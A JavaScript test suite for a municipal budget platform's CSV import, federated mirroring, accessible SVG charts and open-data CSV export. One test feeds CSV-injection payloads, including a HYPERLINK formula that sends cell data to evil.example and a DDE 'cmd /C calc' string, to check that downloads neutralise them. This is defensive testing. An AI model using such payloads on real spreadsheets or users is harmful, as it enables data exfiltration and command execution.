// SPDX-License-Identifier: AGPL-3.0-or-later
// Budget documents' lines (issue 4): the staff CSV import through the multipart form (valid
// files replace the lines in one transaction with their events; bad files are refused whole with
// line numbers and reasons), the mirror on citizen-srv (HTML and JSON), the totals, the
// server-rendered SVG charts with their text alternatives and tables, the open-data CSV
// (checked with a CSV reader written here, not ours), and the demo documents of Tiziri.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { adoptEvents, forgeEvents, readLog, signingKey, staffClient, startFederatedPair,
	waitForMirror } from '../lib/federation.mjs';
import { Client, loadDemo, rawRequest, tagsOf, waitFor } from '../lib/http.mjs';

const HEADER = 'section,chapter,article,label,planned,executed';
const NBSP = '\u00a0';

/** RFC 4180 reader (quotes, doubled quotes, CRLF or LF), independent of the C one. */
function parseCsv(text) {
	const rows = [];
	let row = [];
	let field = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const c = text[i];
		if (quoted) {
			if (c === '"' && text[i + 1] === '"') {
				field += '"';
				i++;
			} else if (c === '"') {
				quoted = false;
			} else {
				field += c;
			}
		} else if (c === '"') {
			quoted = true;
		} else if (c === ',') {
			row.push(field);
			field = '';
		} else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
			if (c === '\r') i++;
			row.push(field);
			rows.push(row);
			row = [];
			field = '';
		} else {
			field += c;
		}
	}
	if (field !== '' || row.length) {
		row.push(field);
		rows.push(row);
	}
	return rows;
}

/** CSV text of lines [{section, chapter, article, label, planned, executed}] (amounts as given). */
function csvOf(lines, { eol = '\r\n', bom = false } = {}) {
	const q = (v) => (/[",\r\n]/.test(String(v)) ? `"${String(v).replace(/"/g, '""')}"` : String(v));
	const body = lines.map((l) => [l.section, l.chapter, l.article, l.label, l.planned, l.executed]
		.map(q).join(','));
	return `${bom ? '\ufeff' : ''}${[HEADER, ...body].join(eol)}${eol}`;
}

/** 1250000 -> "1 250 000" with no-break spaces, as the pages print amounts. */
function grouped(n) {
	return String(n).replace(/\B(?=(\d{3})+(?!\d))/g, NBSP);
}

function sum(lines, key, section) {
	return lines.filter((l) => !section || l.section === section).reduce((a, l) => a + l[key], 0);
}

/** Creates a budget document through the staff form; resolves to its id. */
async function createBudget(staff, { year, type = 'bp', publish = true, title }) {
	const titleFr = title || `Budget de test ${type} ${year}`;
	const r = await staff.post('/staff/budgets', {
		title_fr: titleFr, title_ar: `ميزانية ${year}`, year: String(year), type,
		summary_fr: 'Document de test.', action: publish ? 'publish' : 'draft',
	});
	assert.equal(r.status, 303, `create budget: ${r.status} ${r.errorCode} ${r.body.slice(0, 300)}`);
	const list = await staff.get('/staff/budgets.json');
	const item = list.json.items.find((i) => i.title === titleFr || i.data?.title?.fr === titleFr);
	assert.ok(item, `the new budget is in /staff/budgets.json: ${list.body.slice(0, 300)}`);
	return item.id;
}

/** Posts text (or bytes) as the file field of the import form. */
function upload(staff, id, content, { filename = 'lignes.csv', type = 'text/csv', json = false,
	csrf } = {}) {
	const fields = {};
	if (content !== null) fields.file = new File([content], filename, { type });
	return staff.post(`/staff/budgets/${id}/lines`, fields, { multipart: true, json, csrf });
}

/** The citizen-side id of an official budget (its mirror), once it exists. */
async function mirrorId(citizen, officialId) {
	return waitFor(async () => {
		const r = await citizen.get('/budgets.json');
		return r.json?.items?.find((i) => i.origin_id === officialId)?.id;
	}, { what: `the mirror of budget ${officialId}` });
}

function stripLine(l) {
	const { section, chapter, article, label, planned, executed } = l;
	return { section, chapter, article, label, planned, executed };
}

const VALID = [
	{ section: 'fonctionnement', chapter: '60', article: '601', label: 'Fournitures, imprimés "divers"', planned: 4500000, executed: 3120000 },
	{ section: 'fonctionnement', chapter: '61', article: '611', label: 'الرواتب والأجور', planned: 168000000, executed: 126000000 },
	{ section: 'fonctionnement', chapter: '61', article: '612', label: 'Indemnités <b>&amp; primes</b>', planned: 46000000, executed: 0 },
	{ section: 'equipement', chapter: '90', article: '901', label: 'Réfection de la chaussée\u00a0— boulevard', planned: 38000000, executed: 22800000 },
	{ section: 'equipement', chapter: '91', article: '911', label: 'تطهير تيغيلت', planned: 51000000, executed: 7650000 },
];

describe('budget lines', () => {
	let pair;
	let staff;
	let anon;
	let citizen;
	let budgetId;

	before(async () => {
		pair = await startFederatedPair();
		staff = await staffClient(pair.official);
		anon = new Client(pair.official.url);
		citizen = new Client(pair.citizen.url);
	});

	after(async () => {
		await pair?.stop();
	});

	test('a valid CSV uploaded through the staff form shows with its totals on both platforms', async () => {
		budgetId = await createBudget(staff, { year: 2031 });
		const edit = await staff.get(`/staff/budgets/${budgetId}/edit`);
		assert.equal(edit.status, 200);
		assert.match(edit.body, new RegExp(`<form[^>]+action="/staff/budgets/${budgetId}/lines"[^>]+enctype="multipart/form-data"`));
		assert.match(edit.body, /<label for="budget-file">[^<]+<\/label> <input type="file" id="budget-file" name="file"/);

		// BOM, CRLF, digit groups with spaces and no-break spaces, quoted fields
		const text = csvOf(VALID.map((l, i) => ({ ...l,
			planned: i === 1 ? '168 000 000' : i === 3 ? `38${NBSP}000${NBSP}000` : l.planned })),
		{ bom: true });
		const r = await upload(staff, budgetId, text);
		assert.equal(r.status, 200, `${r.errorCode} ${r.body.slice(0, 500)}`);
		assert.match(r.body, /role="status"[^]*<strong>5<\/strong>/);

		const page = await anon.get(`/budgets/${budgetId}.json`);
		assert.equal(page.status, 200);
		const b = page.json.budget;
		assert.deepEqual(b.lines, VALID);
		assert.equal(b.line_count, 5);
		assert.equal(b.totals.planned, sum(VALID, 'planned'));
		assert.equal(b.totals.executed, sum(VALID, 'executed'));
		assert.equal(b.totals.rate_pct, Math.round(100 * sum(VALID, 'executed') / sum(VALID, 'planned')));
		const fonct = b.by_section.find((s) => s.section === 'fonctionnement');
		assert.equal(fonct.planned, 218500000);
		assert.equal(fonct.executed, 129120000);
		assert.equal(fonct.rate_pct, 59);
		const equip = b.by_section.find((s) => s.section === 'equipement');
		assert.equal(equip.planned, 89000000);
		const ch61 = b.by_chapter.find((g) => g.section === 'fonctionnement').chapters
			.find((c) => c.chapter === '61');
		assert.deepEqual([ch61.planned, ch61.executed, ch61.lines], [214000000, 126000000, 2]);
		assert.equal(b.csv_url, `/budgets/${budgetId}/lines.csv`);
		assert.equal(b.sections_svg, undefined, 'the JSON twin carries data, not drawings');

		const html = await anon.get(`/budgets/${budgetId}?lang=fr`);
		assert.equal(html.status, 200);
		assert.ok(html.body.includes('Indemnités &lt;b&gt;&amp;amp; primes&lt;/b&gt;'), 'labels are escaped');
		assert.ok(!html.body.includes('<b>&amp; primes'));
		assert.ok(html.body.includes(`<td>${grouped(168000000)}</td>`), 'amounts have digit groups');
		assert.ok(html.body.includes(grouped(sum(VALID, 'planned'))), 'the total is shown');
		assert.ok(html.body.includes(`href="/budgets/${budgetId}/lines.csv"`));
		assert.ok(html.body.includes(`href="/budgets/${budgetId}.json"`));

		await waitForMirror(pair.official, pair.citizen);
		const cid = await mirrorId(citizen, budgetId);
		const mirrored = await citizen.get(`/budgets/${cid}.json`);
		assert.equal(mirrored.status, 200);
		assert.deepEqual(mirrored.json.budget.lines, VALID);
		assert.deepEqual(mirrored.json.budget.totals, b.totals);
		assert.deepEqual(mirrored.json.budget.by_section, b.by_section);
		const chtml = await citizen.get(`/budgets/${cid}?lang=ar`);
		assert.equal(chtml.status, 200);
		assert.ok(chtml.body.includes('تطهير تيغيلت'));
		assert.ok(chtml.body.includes(`<td>${grouped(51000000)}</td>`));
		assert.ok(chtml.body.includes('دج'), 'the currency label comes from the catalog');
	});

	test('the CSV download holds the same lines, on both platforms', async () => {
		const r = await anon.get(`/budgets/${budgetId}/lines.csv`);
		assert.equal(r.status, 200);
		assert.equal(r.headers.get('content-type'), 'text/csv; charset=utf-8');
		assert.match(r.headers.get('content-disposition'), /^attachment; filename="budget-2031-bp-\d+\.csv"$/);
		const rows = parseCsv(r.body);
		assert.deepEqual(rows[0], HEADER.split(','));
		const lines = rows.slice(1).map(([section, chapter, article, label, planned, executed]) =>
			({ section, chapter, article, label, planned: Number(planned), executed: Number(executed) }));
		assert.deepEqual(lines, VALID);
		// a second download (the page cache) is still an attachment
		const again = await anon.get(`/budgets/${budgetId}/lines.csv`);
		assert.match(again.headers.get('content-disposition') || '', /^attachment/);
		assert.equal(again.body, r.body);

		const cid = await mirrorId(citizen, budgetId);
		const c = await citizen.get(`/budgets/${cid}/lines.csv`);
		assert.equal(c.status, 200);
		assert.equal(c.body, r.body);
	});

	test('the CSV download neutralises formulas (OWASP CSV injection); amounts stay numbers; it imports back', async () => {
		// a "bs": the "bp" documents are compared year against year below
		const id = await createBudget(staff, { year: 2027, type: 'bs' });
		const evil = [
			{ section: 'fonctionnement', chapter: '-60', article: '+601', label: '=HYPERLINK("http://evil.example/?"&A1,"Voir")', planned: 0, executed: 1500 },
			{ section: 'fonctionnement', chapter: '61', article: '@611', label: '+33 1 23 45 67', planned: 2500000, executed: 0 },
			{ section: 'equipement', chapter: '90', article: '901', label: "'=déjà marqué comme texte", planned: 10, executed: 10 },
			{ section: 'equipement', chapter: '90', article: '902', label: "''=une apostrophe voulue", planned: 10, executed: 10 },
			{ section: 'equipement', chapter: '91', article: '911', label: '-cmd|\' /C calc\'!A0', planned: 7, executed: 3 },
			{ section: 'equipement', chapter: '92', article: '921', label: 'Voirie - tranche 2 = 40 %', planned: 1, executed: 1 },
		];
		const r = await upload(staff, id, csvOf(evil), { json: true });
		assert.equal(r.status, 200, r.body.slice(0, 300));
		// stored and shown as typed; a quote before a formula is the spreadsheets' "this is
		// text" mark, which the import takes off (one of them)
		const stored = evil.map((l) => ({ ...l, label: l.label.replace(/^'(?='*=)/, '') }));
		assert.deepEqual(stored.map((l) => l.label).slice(2, 4),
			['=déjà marqué comme texte', "'=une apostrophe voulue"]);

		const csv = await anon.get(`/budgets/${id}/lines.csv`);
		assert.equal(csv.status, 200);
		const rows = parseCsv(csv.body).slice(1);
		assert.equal(rows.length, evil.length);
		for (const row of rows) {
			for (const cell of row) {
				assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet evaluates: ${cell}`);
			}
			// planned and executed: plain non-negative integers, as numbers
			assert.match(row[4], /^\d+$/);
			assert.match(row[5], /^\d+$/);
		}
		assert.deepEqual((await anon.get(`/budgets/${id}.json`)).json.budget.lines.map(stripLine), stored);
		assert.deepEqual(rows.map((x) => x.slice(1, 4)), [
			["'-60", "'+601", `'=HYPERLINK("http://evil.example/?"&A1,"Voir")`],
			['61', "'@611", "'+33 1 23 45 67"],
			['90', '901', "'=déjà marqué comme texte"],
			['90', '902', "''=une apostrophe voulue"],
			['91', '911', "'-cmd|' /C calc'!A0"],
			['92', '921', 'Voirie - tranche 2 = 40 %'],
		]);
		assert.deepEqual(rows.map((x) => [Number(x[4]), Number(x[5])]), stored.map((l) => [l.planned, l.executed]));
		// the mirror serves the same bytes
		const cid = await mirrorId(citizen, id);
		await waitFor(async () => (await citizen.get(`/budgets/${cid}/lines.csv`)).body === csv.body,
			{ what: 'the mirrored CSV' });

		// the downloaded file imports back as the same lines (the quotes added are taken off)
		const again = await upload(staff, id, csv.body, { json: true });
		assert.equal(again.status, 200, again.body.slice(0, 300));
		assert.deepEqual((await anon.get(`/budgets/${id}.json`)).json.budget.lines.map(stripLine), stored);
		assert.equal((await anon.get(`/budgets/${id}/lines.csv`)).body, csv.body);
	});

	test('the SVG charts have text alternatives and the same data in tables', async () => {
		for (const lang of ['fr', 'ar']) {
			const r = await anon.get(`/budgets/${budgetId}?lang=${lang}`);
			const svgs = r.body.match(/<svg\b[^>]*>[^]*?<\/svg>/g) || [];
			assert.ok(svgs.length >= 3, `${lang}: a chart by section and one per section's chapters`);
			for (const svg of svgs) {
				const open = /<svg\b[^>]*>/.exec(svg)[0];
				assert.match(open, /role="img"/);
				const id = /aria-labelledby="([^"]+)"/.exec(open)?.[1];
				assert.ok(id, 'aria-labelledby');
				assert.match(svg, new RegExp(`<title id="${id}">[^<]+</title>`));
				assert.doesNotMatch(svg, /style=|<script/);
				const desc = /aria-describedby="([^"]+)"/.exec(open)?.[1];
				if (desc) assert.match(svg, new RegExp(`<desc id="${desc}">[^<]+</desc>`));
			}
			// the chart's numbers are in its text alternative
			assert.ok(svgs[0].includes(grouped(218500000)));
			const tables = r.body.match(/<table class="table">\s*<caption id="[^"]+">[^<]+<\/caption>/g) || [];
			assert.ok(tables.length >= 4, `${lang}: tables by section, by chapter and of the lines`);
			assert.ok(r.body.includes(`<th scope="row">${lang === 'ar' ? 'قسم التسيير' : 'Fonctionnement'}</th><td>${grouped(218500000)}</td><td>${grouped(129120000)}</td><td>59%</td>`));
			// right to left: labels and values end where the bars start, on the right
			const anchors = svgs[0].match(/text-anchor="(start|end)"/g);
			assert.ok(anchors.every((a) => a.includes(lang === 'ar' ? 'end' : 'start')), lang);
			assert.ok(!r.body.includes(' style="'), 'no inline styles (CSP)');
		}
	});

	test('a CSV with errors is refused whole, with line numbers and reasons; nothing changes', async () => {
		const before = await anon.get(`/budgets/${budgetId}.json`);
		const logBefore = (await readLog(pair.official)).length;
		const bad = [
			HEADER,
			'fonctionnement,60,601,Bonne ligne,1000,500',
			'fonctionnement,60,602,Montant en lettres,12a,0',
			'',
			'investissement,60,603,Section inconnue,1000,0',
			'equipement,90,901,Réalisé négatif,1000,-5',
			'equipement,90,902,,1000,0',
			'equipement,90,903,Six colonnes attendues,1000',
			'equipement,,904,Trop grand,10000000000001,0',
			'equipement,90,905,"Guillemet"après,1,1',
			'equipement,90,906,Groupes mal faits,12 34,1 000',
			'fonctionnement,61,611,"Libellé ""cité"", avec virgule",2 500,2500',
		].join('\n');
		const r = await upload(staff, budgetId, bad, { json: true });
		assert.equal(r.status, 400);
		assert.equal(r.json.error.code, 'invalid_csv');
		assert.ok(r.json.error.message);
		assert.deepEqual(r.json.error.lines, [
			{ line: 3, reason: 'planned_not_a_number' },
			{ line: 5, reason: 'section_invalid' },
			{ line: 6, reason: 'executed_negative' },
			{ line: 7, reason: 'label_required' },
			{ line: 8, reason: 'field_count' },
			{ line: 9, reason: 'chapter_required' },
			{ line: 9, reason: 'planned_too_large' },
			{ line: 10, reason: 'text_after_quote' },
			{ line: 11, reason: 'planned_not_a_number' },
		]);
		assert.equal(r.json.error.total, 9);

		const page = await upload(staff, budgetId, bad);
		assert.equal(page.status, 400);
		assert.equal(page.errorCode, 'invalid_csv');
		assert.match(page.body, /<td>3<\/td><td>[^<]+\(<code>planned_not_a_number<\/code>\)<\/td>/);
		assert.match(page.body, /<td>9<\/td><td>[^<]+\(<code>planned_too_large<\/code>\)<\/td>/);
		assert.match(page.body, /<input type="file" id="budget-file" name="file"/, 'the form again');

		const after = await anon.get(`/budgets/${budgetId}.json`);
		assert.deepEqual(after.json.budget.lines, before.json.budget.lines);
		assert.equal((await readLog(pair.official)).length, logBefore, 'no event');
	});

	test('bad uploads: not a CSV, empty, a header alone, negative amounts, no file, over 4 MiB', async () => {
		const before = await anon.get(`/budgets/${budgetId}.json`);
		const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
		const cases = [
			[png, { filename: 'photo.png', type: 'image/png' }, 'csv_not_utf8'],
			['', {}, 'csv_empty'],
			['\ufeff\r\n  \n', {}, 'csv_empty'],
			[`${HEADER}\r\n`, {}, 'csv_no_lines'],
			['%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', { filename: 'x.pdf', type: 'application/pdf' }, 'invalid_csv'],
			['section;chapter;article;label;planned;executed\nfonctionnement;60;601;x;1;1\n', {}, 'invalid_csv'],
			[`${HEADER}\nfonctionnement,60,601,Négatif,-100,0\n`, {}, 'invalid_csv'],
			[null, {}, 'csv_file_required'],
		];
		for (const [content, opts, code] of cases) {
			const r = await upload(staff, budgetId, content, { ...opts, json: true });
			assert.equal(r.status, 400, `${code}: ${r.body.slice(0, 200)}`);
			assert.equal(r.json.error.code, code);
		}
		const semi = await upload(staff, budgetId, cases[5][0], { json: true });
		assert.deepEqual(semi.json.error.lines, [{ line: 1, reason: 'header_semicolons' }]);
		const neg = await upload(staff, budgetId, cases[6][0], { json: true });
		assert.deepEqual(neg.json.error.lines, [{ line: 2, reason: 'planned_negative' }]);

		// more than 4 MiB: 413 from the Content-Length alone (raw socket: the daemon answers at
		// once and closes), and while reading a chunked body
		const big = Buffer.from(`${HEADER}\n${'fonctionnement,60,601,x,1,1\n'.repeat(160000)}`);
		assert.ok(big.length > 4 * 1024 * 1024);
		const boundary = `----budget${Date.now()}`;
		const body = Buffer.concat([
			Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n${await staff.csrf()}\r\n` +
				`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n` +
				'Content-Type: text/csv\r\n\r\n'),
			big,
			Buffer.from(`\r\n--${boundary}--\r\n`),
		]);
		const common = `POST /staff/budgets/${budgetId}/lines HTTP/1.1\r\nHost: 127.0.0.1\r\n` +
			`Content-Type: multipart/form-data; boundary=${boundary}\r\n` +
			`Cookie: ${staff.cookieHeader()}\r\nAccept: application/json\r\nConnection: close\r\n`;
		const raw = await rawRequest(pair.official.port, `${common}Content-Length: ${body.length}\r\n\r\n`);
		assert.equal(raw.status, 413, raw.text.slice(0, 300));
		assert.equal(JSON.parse(raw.body).error.code, 'payload_too_large');
		const chunked = await rawRequest(pair.official.port,
			`${common}Transfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n`,
			{ chunks: [{ data: body }, { data: '\r\n0\r\n\r\n' }], timeoutMs: 30_000 });
		assert.equal(chunked.status, 413, `${chunked.error} ${chunked.text.slice(0, 300)}`);

		// not signed in, no CSRF token, someone else's document, no such document
		const out = await new Client(pair.official.url).post(`/staff/budgets/${budgetId}/lines`,
			{ file: new File([csvOf(VALID)], 'a.csv') }, { multipart: true, json: true });
		assert.equal(out.status, 401);
		const nocsrf = await upload(staff, budgetId, csvOf(VALID), { json: true, csrf: 'f'.repeat(64) });
		assert.equal(nocsrf.status, 403);
		const missing = await upload(staff, 999999, csvOf(VALID), { json: true });
		assert.equal(missing.status, 404);
		assert.equal(missing.json.error.code, 'budget_not_found');
		const project = await upload(staff, 'abc', csvOf(VALID), { json: true });
		assert.equal(project.status, 404);

		const after = await anon.get(`/budgets/${budgetId}.json`);
		assert.deepEqual(after.json.budget.lines, before.json.budget.lines, 'nothing changed');
	});

	test('a 5,000-line CSV imports in one transaction and mirrors completely', async () => {
		const id = await createBudget(staff, { year: 2032, type: 'ca' });
		const long = 'نفقات تجهيز وصيانة المرافق العمومية البلدية، '.repeat(6).slice(0, 290);
		const lines = [];
		for (let i = 0; i < 5000; i++) {
			lines.push({
				section: i % 3 ? 'fonctionnement' : 'equipement',
				chapter: String(60 + (i % 24)),
				article: `${60 + (i % 24)}-${i}`,
				label: i % 2 ? `${long} ${i}` : `Ligne ${i}, "test"`,
				planned: 1000000 + i * 37,
				executed: 500000 + i * 11,
			});
		}
		const seqBefore = (await readLog(pair.official)).length;
		const started = Date.now();
		const r = await upload(staff, id, csvOf(lines), { json: true });
		assert.equal(r.status, 200, `${r.body.slice(0, 300)}`);
		assert.equal(r.json.imported, 5000);
		const events = r.json.events;
		assert.ok(events >= 17, `${events} events of at most 300 lines`);
		console.log(`5,000 lines imported in ${Date.now() - started} ms as ${events} events`);

		const log = await readLog(pair.official);
		const mine = log.slice(seqBefore);
		assert.equal(mine.length, events);
		let next = 1;
		for (const e of mine) {
			assert.equal(e.type, 'budget.lines');
			assert.ok(e.payload.length < 60 * 1024, `event ${e.seq} is ${e.payload.length} bytes`);
			const d = JSON.parse(e.payload.toString('utf8')).data;
			assert.equal(d.id, id);
			assert.equal(d.parts, events);
			assert.equal(d.first, next);
			assert.ok(d.lines.length <= 300);
			next += d.lines.length;
		}
		assert.equal(next, 5001);
		// one transaction: the lines and the events were written by the same one
		const xids = await pair.official.cluster.psql(
			`SELECT count(DISTINCT x) FROM (SELECT xmin::text AS x FROM budget_lines WHERE publication_id = ${id}` +
			` UNION ALL SELECT xmin::text FROM fed_events WHERE origin = 'official' AND seq > ${seqBefore}) t`,
			{ database: pair.official.database });
		assert.equal(xids.trim(), '1');

		const official = await anon.get(`/budgets/${id}.json`);
		assert.equal(official.json.budget.lines.length, 5000);
		assert.deepEqual(official.json.budget.lines, lines);
		assert.equal(official.json.budget.totals.planned, sum(lines, 'planned'));
		const html = await anon.get(`/budgets/${id}?lang=fr`);
		assert.equal(html.status, 200);
		assert.equal((html.body.match(/<tr><td dir="auto">/g) || []).length, 500,
			'the page shows the first 500 lines and links to all');

		await waitForMirror(pair.official, pair.citizen, { timeoutMs: 60_000 });
		const cid = await mirrorId(citizen, id);
		const mirrored = await citizen.get(`/budgets/${cid}.json`);
		assert.equal(mirrored.json.budget.lines.length, 5000);
		assert.deepEqual(mirrored.json.budget.lines, lines);
		const flags = await pair.citizen.cluster.psql(
			"SELECT count(*) FROM fed_events WHERE origin = 'official' AND type = 'budget.lines' AND flag IS NOT NULL",
			{ database: pair.citizen.database });
		assert.equal(flags.trim(), '0', 'every part applied');
		const csvO = await anon.get(`/budgets/${id}/lines.csv`);
		const csvC = await citizen.get(`/budgets/${cid}/lines.csv`);
		assert.equal(parseCsv(csvO.body).length, 5001);
		assert.equal(csvC.body, csvO.body);

		// a smaller file replaces all the lines, on both sides
		const r2 = await upload(staff, id, csvOf(lines.slice(0, 10)), { json: true });
		assert.equal(r2.status, 200);
		await waitForMirror(pair.official, pair.citizen);
		const again = await citizen.get(`/budgets/${cid}.json`);
		assert.deepEqual(again.json.budget.lines, lines.slice(0, 10));
	});

	test('year against year: the same type of document in earlier years', async () => {
		const older = await createBudget(staff, { year: 2030 });
		const lines = [{ section: 'fonctionnement', chapter: '61', article: '611', label: 'Salaires', planned: 200000000, executed: 190000000 }];
		assert.equal((await upload(staff, older, csvOf(lines))).status, 200);
		const r = await anon.get(`/budgets/${budgetId}.json`);
		assert.deepEqual(r.json.budget.years.map((y) => [y.year, y.planned, y.is_current]),
			[[2030, 200000000, false], [2031, sum(VALID, 'planned'), true]]);
		assert.equal(r.json.budget.has_years, true);
		const html = await anon.get(`/budgets/${budgetId}?lang=fr`);
		assert.match(html.body, /<svg\b[^>]*aria-labelledby="chart-years-title"/);
		assert.match(html.body, new RegExp(`<a href="/budgets/${older}">2030</a>`));
		// the oldest has nothing earlier to compare with
		const ca = await anon.get(`/budgets/${older}.json`);
		assert.equal(ca.json.budget.has_years, false);
	});

	test('a withdrawn document keeps its history but no longer serves its lines', async () => {
		const id = await createBudget(staff, { year: 2029 });
		assert.equal((await upload(staff, id, csvOf(VALID))).status, 200);
		const r = await staff.post(`/staff/budgets/${id}/unpublish`, { reason: 'Erreur de saisie' });
		assert.equal(r.status, 303);
		const page = await anon.get(`/budgets/${id}.json`);
		assert.equal(page.json.budget, undefined);
		const csv = await anon.get(`/budgets/${id}/lines.csv`);
		assert.equal(csv.status, 404);
		assert.equal(csv.errorCode, 'budget_unpublished');
	});

	test('the citizen platform refuses budget.lines events that do not fit and keeps its lines', async () => {
		// events signed with official's key and added to its log, as a faulty origin would
		const cid = await mirrorId(citizen, budgetId);
		const before = (await citizen.get(`/budgets/${cid}.json`)).json.budget.lines;
		const good = VALID[0];
		const base = { id: budgetId, version: 1, part: 1, parts: 1, first: 1 };
		const bad = [
			{ ...base, lines: [{ ...good, planned: -1 }] },
			{ ...base, lines: [{ ...good, planned: 10000000000001 }] },
			{ ...base, lines: [{ ...good, executed: '12' }] },
			{ ...base, lines: [{ ...good, section: 'autre' }] },
			{ ...base, lines: [{ ...good, label: '' }] },
			{ ...base, lines: [{ ...good, label: 'x'.repeat(301) }] },
			{ ...base, lines: [{ ...good, chapter: 'a\u0007b' }] },
			{ ...base, lines: [{ ...good, extra: 1 }] },
			{ ...base, lines: [good, 'not a line'] },
			{ ...base, first: 2, lines: [good] },
			{ ...base, part: 2, parts: 2, first: 2, lines: [good] },
			{ ...base, part: 3, parts: 2, first: 6, lines: [good] },
			{ ...base, id: 999999, lines: [good] },
			{ ...base, version: 0, lines: [good] },
			{ ...base, lines: {} },
		];
		const log = await readLog(pair.official);
		const events = forgeEvents(log, 'official', bad.map((data) => ({
			type: 'budget.lines', data,
			refs: [{ origin: 'official', type: 'budget', id: String(budgetId) }],
		})), signingKey(pair.official));
		await adoptEvents(pair.official, events);
		await waitForMirror(pair.official, pair.citizen);
		const flags = await pair.citizen.cluster.psql(
			`SELECT coalesce(flag, 'applied') FROM fed_events WHERE origin = 'official' AND seq > ${log.length} ORDER BY seq`,
			{ database: pair.citizen.database });
		assert.deepEqual(flags.trim().split('\n'), bad.map(() => 'invalid_data'));
		const after = (await citizen.get(`/budgets/${cid}.json`)).json.budget.lines;
		assert.deepEqual(after, before);
	});

	test('a draft takes its lines without sending them; they go when it is published', async () => {
		const id = await createBudget(staff, { year: 2028, publish: false });
		const r = await upload(staff, id, csvOf(VALID), { json: true });
		assert.equal(r.status, 200);
		assert.equal(r.json.events, 0);
		assert.equal(r.json.is_published, false);
		assert.equal((await staff.post(`/staff/budgets/${id}/publish`, {})).status, 303);
		await waitForMirror(pair.official, pair.citizen);
		const cid = await mirrorId(citizen, id);
		const mirrored = await citizen.get(`/budgets/${cid}.json`);
		assert.deepEqual(mirrored.json.budget.lines, VALID);
	});
});

describe('budget demo documents', () => {
	let pair;

	before(async () => {
		pair = await startFederatedPair();
	});

	after(async () => {
		await pair?.stop();
	});

	test('the demo loads the Tiziri budget documents with their lines, once', async () => {
		const first = await loadDemo(pair.official);
		assert.match(first.stdout, /budget bp 2025 added with 32 lines/);
		const second = await loadDemo(pair.official);
		assert.doesNotMatch(second.stdout, /budget \w+ \d+ added/);
		assert.match(second.stdout, /0 demo budget documents loaded/);

		const anon = new Client(pair.official.url);
		const list = await anon.get('/budgets.json?lang=fr');
		const byTitle = Object.fromEntries(list.json.items.map((i) => [i.title, i.id]));
		const doc = async (title) => (await anon.get(`/budgets/${byTitle[title]}.json`)).json.budget;

		const bp = await doc('Budget primitif 2025');
		assert.equal(bp.totals.planned, 640000000);
		const sec = Object.fromEntries(bp.by_section.map((s) => [s.section, s.planned]));
		assert.deepEqual(sec, { fonctionnement: 470000000, equipement: 170000000 });
		assert.ok(bp.line_count >= 25 && bp.line_count <= 40);
		assert.deepEqual(bp.years.map((y) => y.year), [2024, 2025]);
		assert.equal((await doc('Budget supplémentaire 2025')).totals.planned, 85000000);
		const ca = await doc('Compte administratif 2024');
		assert.deepEqual([ca.totals.planned, ca.totals.executed], [598000000, 561000000]);

		await waitForMirror(pair.official, pair.citizen);
		const citizen = new Client(pair.citizen.url);
		const clist = await citizen.get('/budgets.json?lang=fr');
		const cbp = clist.json.items.find((i) => i.title === 'Budget primitif 2025');
		const mirrored = await citizen.get(`/budgets/${cbp.id}.json`);
		assert.equal(mirrored.json.budget.totals.planned, 640000000);
		const html = await citizen.get(`/budgets/${cbp.id}`);
		assert.equal(html.status, 200);
		assert.ok(tagsOf(html.body).some((t) => /^<svg\b[^>]*role="img"/.test(t)));
	});
});
